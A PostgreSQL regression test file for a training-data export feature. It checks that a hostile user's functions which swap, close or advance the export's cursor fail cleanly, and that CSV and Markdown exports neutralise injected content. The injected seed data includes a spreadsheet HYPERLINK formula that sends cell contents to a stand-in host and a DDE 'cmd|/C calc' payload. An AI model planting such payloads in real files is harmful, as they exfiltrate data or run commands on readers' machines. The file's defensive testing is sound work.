-- export_attacks: what a hostile user's own code, run in the same query as an
-- export, can do to the export's cursor.  export_jsonl() and
-- export_conversations() return one record per call and keep their cursor
-- open between calls; a user function evaluated beside them (here in the
-- select list) finds it in pg_cursors and tries to close it, to replace it
-- by a cursor of the same name with other column types (1.1 then read
-- integers as pointers and the backend died), to move it, or to fetch from
-- it.  Each attempt fails with a clean error, and an export without the
-- attack still returns every record.  Then files that attack their reader:
-- spreadsheet formulas in CSV, structure in Markdown titles.

\set alice '''aaaaaaaa-aaaa-aaaa-aaaa-aaaaaaaaaaaa'''

-- Five approved conversations of alice's, 1,500 turns each: the cursor is
-- fetched 2,000 rows at a time and the export looks one record ahead, so
-- rows are left in it after the first record, and an attack after the first
-- record is followed by another fetch (with three, the look ahead at the
-- first record read the cursor to its end; with four, to its last row).
SET row_security = off;
INSERT INTO train_data.conversations (id, conversation_id, title, persona, emotion, topic, tier, status, created_at,
                                      updated_at, created_by)
VALUES ('ea000000-0000-0000-0000-000000000001', 'tpl_a_000001', 'One', 'Ann', 'calm', 'saving', 'template', 'approved',
        '2025-01-01 10:00:00+00', '2025-01-01 10:00:00+00', :alice),
       ('ea000000-0000-0000-0000-000000000002', 'tpl_a_000002', 'Two', 'Ann', 'calm', 'saving', 'template', 'approved',
        '2025-01-02 10:00:00+00', '2025-01-02 10:00:00+00', :alice),
       ('ea000000-0000-0000-0000-000000000003', 'tpl_a_000003', 'Three', 'Ann', 'calm', 'saving', 'template', 'approved',
        '2025-01-03 10:00:00+00', '2025-01-03 10:00:00+00', :alice),
       ('ea000000-0000-0000-0000-000000000004', 'tpl_a_000004', 'Four', 'Ann', 'calm', 'saving', 'template', 'approved',
        '2025-01-04 10:00:00+00', '2025-01-04 10:00:00+00', :alice),
       ('ea000000-0000-0000-0000-000000000005', 'tpl_a_000005', 'Five', 'Ann', 'calm', 'saving', 'template', 'approved',
        '2025-01-05 10:00:00+00', '2025-01-05 10:00:00+00', :alice);
INSERT INTO train_data.conversation_turns (conversation_id, turn_number, role, content)
SELECT c.id, n, CASE n WHEN 1 THEN 'user' ELSE 'assistant' END, 'turn ' || n
FROM train_data.conversations c, generate_series(1, 1500) n;
RESET row_security;

-- alice's own schema, where she writes the attacking functions.
CREATE SCHEMA regress_alice_code AUTHORIZATION regress_alice;
SET ROLE regress_alice;
SET train_data.user_id = :alice;

-- Do something to every other open cursor of the session: 'swap' closes
-- it and opens, under its name, a cursor of 22 bigint columns (the export's
-- column count) whose values would be read as pointers; 'steal' fetches a
-- row from it (moving it on).  Returns how many cursors it touched.
CREATE FUNCTION regress_alice_code.on_cursors(action text) RETURNS integer LANGUAGE plpgsql AS $$
DECLARE
    names text[] := ARRAY(SELECT name FROM pg_catalog.pg_cursors);
    n text;
    c refcursor;
    touched integer := 0;
BEGIN
    FOREACH n IN ARRAY names LOOP
        c := n;
        IF action OPERATOR(pg_catalog.=) 'steal' THEN
            MOVE FORWARD 1 FROM c;
        ELSE
            CLOSE c;
            OPEN c FOR SELECT 4242::bigint, 4242::bigint, 4242::bigint, 4242::bigint, 4242::bigint,
                4242::bigint, 4242::bigint, 4242::bigint, 4242::bigint, 4242::bigint, 4242::bigint,
                4242::bigint, 4242::bigint, 4242::bigint, 4242::bigint, 4242::bigint, 4242::bigint,
                4242::bigint, 4242::bigint, 4242::bigint, 4242::bigint, 4242::bigint
                FROM pg_catalog.generate_series(1, 5000);
        END IF;
        touched := touched + 1;
    END LOOP;
    RETURN touched;
END
$$;

-- The same attacks wrapped so that each gives its error as a value.
CREATE FUNCTION regress_alice_code.attack(stmt text) RETURNS text LANGUAGE plpgsql AS $$
DECLARE
    result text;
BEGIN
    EXECUTE stmt INTO result;
    RETURN 'no error: ' || result;
EXCEPTION WHEN OTHERS THEN
    RETURN SQLSTATE || ': ' || pg_catalog.regexp_replace(SQLERRM, '<unnamed portal [0-9]+>', '<portal>');
END
$$;

-- The cursor swapped after the first record: an error, not a crash.
SELECT regress_alice_code.attack($$SELECT pg_catalog.string_agg(l || ' ' || s, ', ')
    FROM (SELECT pg_catalog.left(train_data.export_jsonl(), 30) AS l, regress_alice_code.on_cursors('swap') AS s) x$$);
SELECT regress_alice_code.attack($$SELECT pg_catalog.string_agg(l || ' ' || s, ', ')
    FROM (SELECT pg_catalog.left(train_data.export_conversations('csv', 'all', '{}'), 30) AS l,
                 regress_alice_code.on_cursors('swap') AS s) x$$);
-- Rows taken from the cursor between two records: an error, not a silently
-- shorter file.
SELECT regress_alice_code.attack($$SELECT pg_catalog.string_agg(l || ' ' || s, ', ')
    FROM (SELECT pg_catalog.left(train_data.export_jsonl(), 30) AS l, regress_alice_code.on_cursors('steal') AS s) x$$);
-- Without an attack (the same kind of query, a harmless function beside the
-- export): every record.
SELECT pg_catalog.substring(train_data.export_jsonl(), 'tpl_a_[0-9]+') AS conversation,
       pg_catalog.length(CURRENT_USER::text) AS beside;
-- An export stopped early closes its cursor at once (not at the end of the
-- transaction), and the next one works.
BEGIN;
SELECT pg_catalog.substring(train_data.export_jsonl(), 'tpl_a_[0-9]+') AS conversation LIMIT 1;
SELECT name FROM pg_catalog.pg_cursors;
SELECT pg_catalog.count(*) AS records FROM train_data.export_jsonl();
COMMIT;
-- A client's cursor over an export left open at COMMIT (found by a review
-- of 1.2: the export's own cursor was pinned, and the commit failed with
-- XX000 "cannot commit while a portal is pinned", rolling back): the commit
-- closes both.
BEGIN;
DECLARE left_open CURSOR FOR SELECT pg_catalog.substring(train_data.export_jsonl(), 'tpl_a_[0-9]+') AS conversation;
FETCH 1 FROM left_open;
SELECT pg_catalog.count(*) AS cursors_open FROM pg_catalog.pg_cursors;
COMMIT;
SELECT name FROM pg_catalog.pg_cursors;
-- A cursor WITH HOLD over an export: the commit reads it to its end, the
-- export's own cursor included, and the records left are fetched after it.
BEGIN;
DECLARE held CURSOR WITH HOLD FOR SELECT pg_catalog.substring(train_data.export_jsonl(), 'tpl_a_[0-9]+') AS conversation;
FETCH 1 FROM held;
COMMIT;
FETCH ALL FROM held;
CLOSE held;
-- (never fetched before the commit: every record after it)
BEGIN;
DECLARE held CURSOR WITH HOLD FOR SELECT pg_catalog.substring(train_data.export_jsonl(), 'tpl_a_[0-9]+') AS conversation;
COMMIT;
FETCH ALL FROM held;
CLOSE held;
SELECT name FROM pg_catalog.pg_cursors;
-- The export's cursor made in a savepoint rolled back: the export's next
-- fetch is an error, not a read of a closed portal.
BEGIN;
DECLARE after_rollback CURSOR FOR SELECT pg_catalog.substring(train_data.export_jsonl(), 'tpl_a_[0-9]+') AS conversation;
SAVEPOINT before_export;
FETCH 1 FROM after_rollback;
ROLLBACK TO SAVEPOINT before_export;
-- (24000, the export's cursor "was used by other code": its name varies)
\set VERBOSITY sqlstate
FETCH ALL FROM after_rollback;
\set VERBOSITY default
ROLLBACK;

-- A file that attacks its reader: text that a spreadsheet would run as a
-- formula (a CSV field starting with = + - @, a tab or a carriage return
-- gets a single quote in front, inside its quotes), and a title that would
-- add Markdown structure (escaped, one line).
RESET ROLE;
SET row_security = off;
DELETE FROM train_data.conversations;
INSERT INTO train_data.conversations (id, conversation_id, title, persona, emotion, topic, tier, status, created_at,
                                      updated_at, created_by)
VALUES ('ea000000-0000-0000-0000-000000000009', 'tpl_a_000009',
        E'=HYPERLINK("http://x.example/?"&A1,"Click")\n# Injected heading\n- [link](http://x.example) *b* <i>', '@Ann',
        '-calm', E'\tsaving', 'template', 'approved', '2025-01-09 10:00:00+00', '2025-01-09 10:00:00+00', :alice);
INSERT INTO train_data.conversation_turns (conversation_id, turn_number, role, content)
VALUES ('ea000000-0000-0000-0000-000000000009', 1, 'user', '+1+cmd|'' /C calc''!A0'),
       ('ea000000-0000-0000-0000-000000000009', 2, 'assistant', E'\r=2+3, and a - b = c\r# Out of the quote?\r\nno');
RESET row_security;
SET ROLE regress_alice;
-- (tabs and carriage returns shown as <TAB> and <CR>)
SELECT pg_catalog.replace(pg_catalog.replace(r, E'\t', '<TAB>'), E'\r', '<CR>') AS csv
FROM train_data.export_conversations('csv', 'all', '{"includeTimestamps": false}') r;
-- and a carriage return in a turn ends a quoted line, as Markdown reads it
SELECT pg_catalog.replace(pg_catalog.replace(r, E'\t', '<TAB>'), E'\r', '<CR>') AS markdown
FROM train_data.export_conversations('markdown', 'all', '{"includeTimestamps": false}') WITH ORDINALITY x (r, n)
WHERE n > 1;

-- Found by a review: the strings of a filter array were each copied and
-- read by the enum's input function, as many as a jsonb holds and without a
-- cancel check (3 million labels: 432 MB and 1.5 s a statement timeout did
-- not stop), and a label or a timestamp that is not one was quoted whole in
-- the error.  Arrays hold at most 1,000 strings, labels are looked up in the
-- catalog, and what is quoted is clipped.
SELECT expect_error($$SELECT count(*) FROM train_data.export_jsonl('original', 'filtered', NULL,
    jsonb_build_object('status', (SELECT jsonb_agg('approved'::text) FROM generate_series(1, 1001))))$$);
SELECT count(*) AS with_1000_labels FROM train_data.export_jsonl('original', 'filtered', NULL,
    jsonb_build_object('status', (SELECT jsonb_agg('approved'::text) FROM generate_series(1, 1000))));
SELECT expect_error($$SELECT count(*) FROM train_data.export_jsonl('original', 'filtered', NULL, '{"tier": ["template", "nonsense"]}')$$);
SELECT expect_error($$SELECT count(*) FROM train_data.export_jsonl('original', 'filtered', NULL,
    jsonb_build_object('status', jsonb_build_array(repeat('x', 1000000))))$$);
SELECT expect_error($$SELECT train_data.dataset_report(jsonb_build_object('dateFrom', repeat('x', 1000000)))$$, true);
SELECT expect_error($$SELECT train_data.dataset_report('{"dateFrom": "the day before"}')$$);
-- The manifest names the ids and filters the scope used, not others given
-- beside them (scope all: every approved conversation, whatever was given).
SELECT count(*) AS lines FROM train_data.export_conversations('jsonl', 'all', '{}',
    ARRAY['ea000000-0000-0000-0000-000000000009'::uuid], '{"status": ["rejected"]}');
SELECT l.manifest -> 'scope' AS scope, l.manifest -> 'filters' AS filters, l.manifest -> 'ids' AS ids,
       l.manifest -> 'rows' AS "rows"
FROM train_data.export_logs l ORDER BY l.created_at DESC LIMIT 1;

RESET ROLE;
-- The hint lists the labels in their order, a site's own included, even
-- those added before the first, whose sort order is below 0 (the list
-- once began above -1, and found no label for its last pass: a review of
-- 1.2).  In a transaction rolled back: the type keeps its labels.
BEGIN;
ALTER TYPE train_data.tier_type ADD VALUE 'site_a' BEFORE 'template';
ALTER TYPE train_data.tier_type ADD VALUE 'site_b' BEFORE 'site_a';
DO $$
DECLARE
    h text;
BEGIN
    PERFORM count(*) FROM train_data.export_jsonl('original', 'filtered', NULL, '{"tier": ["nonsense"]}');
EXCEPTION WHEN invalid_text_representation THEN
    GET STACKED DIAGNOSTICS h = PG_EXCEPTION_HINT;
    RAISE NOTICE '%', h;
END $$;
ROLLBACK;
-- Found by a review: a plan that joins the turns first and sorts the joined
-- rows by conversation (a sort is not stable) wrote each conversation's
-- turns in any order (1,220 of 2,000 lines, with enable_nestloop off for
-- the plan; a user's own data and settings can lead there).  The rows are
-- ordered by turn too; and the dedupe's anti-join keeps them so.
SET row_security = off;
DELETE FROM train_data.conversations;
RESET row_security;
SET ROLE regress_alice;
INSERT INTO train_data.conversations (title, persona, emotion, tier, status)
SELECT 'c ' || g, 'P', 'calm', 'template', 'generated' FROM generate_series(1, 2000) g;
INSERT INTO train_data.conversation_turns (conversation_id, turn_number, role, content)
SELECT c.id, t, CASE WHEN t % 2 = 1 THEN 'user' ELSE 'assistant' END, 'turn ' || t
FROM train_data.conversations c, generate_series(1, 4) t;
SET enable_nestloop = off;
SELECT count(*) AS lines,
       count(*) FILTER (WHERE l !~ '"turn 1".*"turn 2".*"turn 3".*"turn 4"') AS turns_out_of_order
FROM train_data.export_jsonl('openai', 'filtered', NULL, '{}') l;
SELECT count(*) AS lines,
       count(*) FILTER (WHERE l !~ '"turn 1".*"turn 2".*"turn 3".*"turn 4"') AS turns_out_of_order
FROM train_data.export_jsonl('openai', 'filtered', NULL, '{}', '{"dedupe": 0.8}') l;
RESET enable_nestloop;

-- A long system message is copied into every line.  A fetch queues at most
-- 8 MB of lines, then stops early, and the next fetch goes on from the row
-- it stopped at (1.2 before this: the lines of all 2,000 rows a fetch reads,
-- here 60 of 400 kB, 24 MB, and a message of 3 MB held 1.2 GB); every line
-- still comes out once.  A message over 1 MB is refused.
RESET ROLE;
SET row_security = off;
DELETE FROM train_data.conversations;
INSERT INTO train_data.conversations (id, conversation_id, title, persona, emotion, tier, status, created_at,
                                      created_by)
SELECT ('eb000000-0000-0000-0000-0000000000' || lpad(g::text, 2, '0'))::uuid, 'tpl_m_' || g, 'M ' || g, 'Ann',
       'calm', 'template', 'approved', '2025-01-01'::timestamptz + g * interval '1 minute', :alice
FROM generate_series(1, 60) g;
INSERT INTO train_data.conversation_turns (conversation_id, turn_number, role, content, created_by)
SELECT c.id, t, CASE t WHEN 1 THEN 'user' ELSE 'assistant' END, 'turn ' || t || ' of ' || c.conversation_id, :alice
FROM train_data.conversations c, generate_series(1, 2) t;
RESET row_security;
SET ROLE regress_alice;
BEGIN;
DECLARE long_message NO SCROLL CURSOR FOR
    SELECT pg_catalog.length(train_data.export_jsonl('openai', 'all', NULL, NULL,
                                                     jsonb_build_object('systemMessage', repeat('x', 400000)))) AS bytes;
FETCH 1 FROM long_message;
RESET ROLE;
SELECT total_bytes < 12 * 1024 * 1024 AS under_12_mb FROM pg_catalog.pg_backend_memory_contexts
WHERE name = 'export records';
SET ROLE regress_alice;
DO $$
DECLARE
    c refcursor := 'long_message';
    b integer;
    n integer := 0;
BEGIN
    LOOP
        FETCH c INTO b;
        EXIT WHEN NOT FOUND;
        n := n + 1;
    END LOOP;
    RAISE NOTICE 'the other lines: %', n;
END
$$;
COMMIT;
SELECT count(*) AS lines, count(DISTINCT l) AS distinct_lines,
       count(*) FILTER (WHERE l LIKE '%"turn 2 of tpl_m_%' AND pg_catalog.length(l) > 400000) AS whole
FROM train_data.export_jsonl('openai', 'all', NULL, NULL, jsonb_build_object('systemMessage', repeat('x', 400000))) l;
SELECT expect_error($$SELECT count(*) FROM train_data.export_jsonl('openai', 'all', NULL, NULL,
    jsonb_build_object('systemMessage', repeat('x', 1048577)))$$);

RESET ROLE;
RESET train_data.user_id;
DROP SCHEMA regress_alice_code CASCADE;
SET row_security = off;
DELETE FROM train_data.conversations;
DELETE FROM train_data.export_logs;
RESET row_security;
